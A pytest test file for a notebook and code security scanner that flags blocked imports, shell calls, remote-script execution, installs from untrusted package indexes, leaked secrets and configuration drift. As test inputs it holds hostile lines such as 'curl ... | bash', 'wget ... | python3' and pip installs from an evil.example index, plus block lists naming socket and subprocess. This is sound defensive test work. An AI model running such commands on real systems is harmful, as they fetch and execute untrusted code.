"""Cells are read as IPython reads them, without running any of it."""

import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from studiolo.contract.scans import Place
from studiolo.packages.clients.configuration import Index, Places, configure
from studiolo.packages.scan.code import judge_cell, judge_python
from studiolo.packages.scan.drift import (
    is_settings,
    judge_script,
    judge_settings,
    judge_variable_lines,
    judge_variables,
)
from studiolo.packages.scan.grounds import Grounds
from studiolo.packages.scan.notebooks import judge_notebook
from studiolo.packages.scan.secrets import Keyed, find_secrets

KEYED = Keyed(b"k" * 32)
GROUNDS = Grounds(
    modules=frozenset({"socket", "subprocess"}),
    calls=frozenset({"os.system"}),
    refusal=lambda name: name if name in ("requests", "urllib3") else None,
    block=lambda name: name if name in ("requests", "urllib") else None,
    indexes=frozenset({"localhost:8888"}),
    channels=frozenset({"conda-forge"}),
)


def told(source: str) -> list[tuple[str, int | None]]:
    """Return rule and line of what is said about a cell, without what is merely worth knowing."""
    found = judge_cell(source, Place(path="a.ipynb", cell="c"), GROUNDS)
    return sorted({(f.rule, f.place.line) for f in found if f.rule != "shell-install"})


@pytest.mark.parametrize(
    "source",
    [
        "import socket",
        "import socket as s, json",
        "x = 1\nfrom socket import create_connection"[6:],
        "from socket import *",
        "__import__('socket')",
        "import importlib; importlib.import_module('socket')",
        "import _socket",
        "exec('import socket')",
        "%time import socket",
    ],
)
def test_an_import_of_a_blocked_module_is_found_in_each_form(source: str) -> None:
    assert ("blocked-import", 1) in told(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "import os\nrun = os.system",
        "import os\ngetattr(os, 'system')('id')",
        "x = 0\nfrom os import system",
        "x = 0\nfrom os import *",
        "import posix\nposix.system('id')",
        "\n__import__('os').system('id')",
        "%%time\nimport os; os.system('id')",
    ],
)
def test_a_use_of_a_blocked_function_is_found_in_each_form(source: str) -> None:
    assert ("blocked-call", 2) in told(source)


@pytest.mark.parametrize(
    "source",
    [
        "import importlib\nimportlib.import_module('sub' + 'process')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "\neval(text)",
        "\nexec(bytes(data))",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "\nget_ipython().system(command)",
    ],
)
def test_what_is_computed_is_told_as_such(source: str) -> None:
    assert told(source) == [("dynamic-code", 2)]


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("!pip install -i http://evil.example/simple six", "install-elsewhere"),
        ("!python -m pip install --extra-index-url=http://evil.example six", "install-elsewhere"),
        ("%pip install git+https://example.com/x.git", "install-elsewhere"),
        ("%pip install ./six-1.0-py3-none-any.whl", "install-elsewhere"),
        ("!uv pip install 'six @ https://example.com/six.whl'", "install-elsewhere"),
        ("!PIP_INDEX_URL=http://evil.example pip install six", "configuration-drift"),
        ("%env UV_INDEX=http://evil.example", "configuration-drift"),
        ("%conda install -c evil six", "install-elsewhere"),
        ("x = !curl -s http://example.com/x | sudo bash", None),
        ("!curl -s http://example.com/x | bash", "remote-script"),
        ("%%bash\nset -e\nwget -qO- http://example.com | python3", "remote-script"),
        ("%run http://example.com/x.py", "remote-script"),
        ("!pip install numpy requests", "blocked-install"),
        ("%%sh\npip install \\\n  urllib3", "blocked-install"),
        ("!pip install numpy 'pandas<3' -r requirements.txt", None),
        ("!conda install -c conda-forge matplotlib seaborn", None),
        ("!pip install --index-url http://localhost:8888/pypi/simple/ six", None),
        ("!pip list", None),
        ("!ls -i | grep x", None),
        ("?os", None),
        ("await fetch()", None),
        ("return 3", None),
        ("def f(:", "unparsable-code"),
        ("x = '''", "unparsable-code"),
    ],
)
def test_shell_lines_and_magics_are_judged_by_what_they_install_and_from_where(source: str, rule: str | None) -> None:
    rules = {found for found, _ in told(source)}
    assert rule in rules if rule else rules <= {"remote-script"} and ("sudo" in source or not rules)


def test_a_package_that_the_policy_blocks_is_a_mild_finding_where_it_is_imported() -> None:
    # A module of the standard library is no package, whatever a package of its name is.
    (finding,) = judge_python("import requests.adapters, urllib.request", Place(path="a.py"), GROUNDS)
    assert (finding.rule, finding.severity) == ("blocked-package-used", "low")


@pytest.mark.parametrize(
    "source",
    ["(" * 5000, "x = " + "-" * 20_000 + "1", "1" + "+1" * 50_000, "\0", "a" * 2_000_000, "[" * 100 + "]" * 100],
    ids=("parentheses", "signs", "sum", "nul", "long", "brackets"),
)
def test_code_made_to_break_parsers_is_at_most_unparsable(source: str) -> None:
    begun = time.monotonic()
    assert {found.rule for found in judge_python(source, Place(path="a.py"), GROUNDS)} <= {"unparsable-code"}
    assert time.monotonic() - begun < 30


def test_secrets_are_found_in_source_outputs_and_metadata_and_never_told() -> None:
    key, token = "AKIAIOSFODNN7EXAMPLE", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
    cells: list[Any] = [
        {"cell_type": "code", "id": "a", "metadata": {"aws": key}, "source": "x = 1", "outputs": []},
        {"cell_type": "markdown", "id": "b", "metadata": {}, "source": ["password = ", "'hunter2hunter'"]},
        {
            "cell_type": "code",
            "id": "c",
            "metadata": {},
            "source": "",
            "outputs": [{"data": {"text/html": f"<b>{token}</b>", "image/png": "AKIA" * 1000}}],
        },
        7,
        {"cell_type": [], "source": {}, "outputs": 5},
    ]
    notebook = json.dumps({"cells": cells, "metadata": {"papermill": {"api_key": token}}}).encode()
    found = list(judge_notebook(notebook, "a.ipynb", GROUNDS, KEYED))
    assert {(f.place.cell, f.what.rpartition(" (")[0]) for f in found} == {
        ("a", "AWS Access Key in the cell's metadata"),
        ("b", "Secret Keyword"),
        ("c", "GitHub Token in output 1"),
        (None, "GitHub Token in the notebook's metadata"),
    }
    assert not [f for f in found if any(secret in f.model_dump_json() for secret in (key, token, "hunter2"))]


def test_a_secret_has_one_hash_with_one_key_and_another_with_another() -> None:
    def hashes(key: bytes) -> list[str]:
        found = find_secrets("password = 'hunter2hunter'", Place(path="a"), Keyed(key))
        return [f.what.rpartition(" ")[2] for f in found]

    assert hashes(b"1") == hashes(b"1") != hashes(b"2")


@pytest.mark.parametrize(
    "line",
    [
        "password = os.environ['PASSWORD']",
        "password = '{{ password }}'",
        "id = '9f86d081-884c-4d65-9a2f-eaa0c55ad015'",
        "frame = pandas.read_csv('data/a_rather_long_name_of_a_file.csv')",
        "password = 'hunter2hunter'  # pragma: allowlist secret",
    ],
)
def test_what_only_looks_like_a_secret_is_not_told(line: str) -> None:
    assert list(find_secrets(line, Place(path="a"), KEYED)) == []


@pytest.mark.parametrize(
    ("path", "text", "said"),
    [
        (
            "pip.conf",
            "[global]\nindex-url = http://me:hush@evil.example/s\n",
            ["global.index-url leads to evil.example"],
        ),
        ("pip.conf", "[global]\nindex-url = http://localhost:8888/pypi/simple/\n", []),
        ("uv.toml", "[[index]]\nname = 'a'\nurl = 'http://evil.example'\n", ["index a leads to evil.example"]),
        ("pyproject.toml", "[[tool.poetry.source]]\nname='q'\nurl='http://q/'\n", ["poetry source q leads to q"]),
        ("pyproject.toml", "[project]\nname = 'x'\n", []),
        (".condarc", "channels: [conda-forge, evil]\n", ["channels leads to evil"]),
        ("environment.yml", "dependencies:\n- pip: ['-i http://m/ six']\n", ["-i leads to m"]),
        ("requirements.txt", "--index-url=http://m/\n# http://c/\nsix==1\n", ["--index-url leads to m"]),
        ("requirements-dev.in", "six @ https://h/six.whl\n", ["a requirement leads to h"]),
        ("pixi.toml", "[workspace]\nchannels = ['conda-forge', 'x']\n", ["channels leads to x"]),
        ("uv.toml", "[[secret = 'hush'", ["Its settings cannot be read: TOMLDecodeError"]),
        ("environment.yml", "- hush\n", ["Its settings cannot be read: AttributeError"]),
    ],
)
def test_settings_are_judged_by_where_they_lead(path: str, text: str, said: list[str]) -> None:
    assert [f.what for f in judge_settings(text, path, Place(path=path), GROUNDS)] == said


def test_scripts_and_variables_lead_elsewhere_too() -> None:
    script = "# /// script\n# dependencies = ['six']\n# [[tool.uv.index]]\n# url = 'http://evil.example'\n# ///\n"
    assert [f.what for f in judge_script(script, Place(path="a.py"), GROUNDS)] == ["index leads to evil.example"]
    lines = "A=1\nexport PIP_INDEX_URL=http://evil.example/\nUV_INDEX='http://localhost:8888/pypi'\n"
    found = [(f.what, f.place.line) for f in judge_variable_lines(lines, Place(path=".env"), GROUNDS)]
    assert found == [("PIP_INDEX_URL leads to evil.example", 2)]


def test_what_the_platform_writes_for_tools_leads_to_its_own_index(tmp_path: Path) -> None:
    index = Index("http://127.0.0.1:8888", channels={"conda-forge": "https://conda.example/conda-forge"})
    own = configure(index, Places(tmp_path / "env", tmp_path / "settings", tmp_path / "cache"), "session", "key")
    grounds = replace(GROUNDS, indexes=frozenset({"localhost:8888", "127.0.0.1:8888"}))
    files = {path: text for path, text in own.files.items() if is_settings(path)}
    assert {Path(path).name for path in files} == {"pip.conf", "condarc"}
    for path, text in files.items():
        assert list(judge_settings(text, path, Place(path=path), grounds)) == []
    without_files = {name: value for name, value in own.variables.items() if not name.endswith("CONFIG_FILE")}
    assert list(judge_variables(without_files.items(), Place(path="x"), grounds)) == []
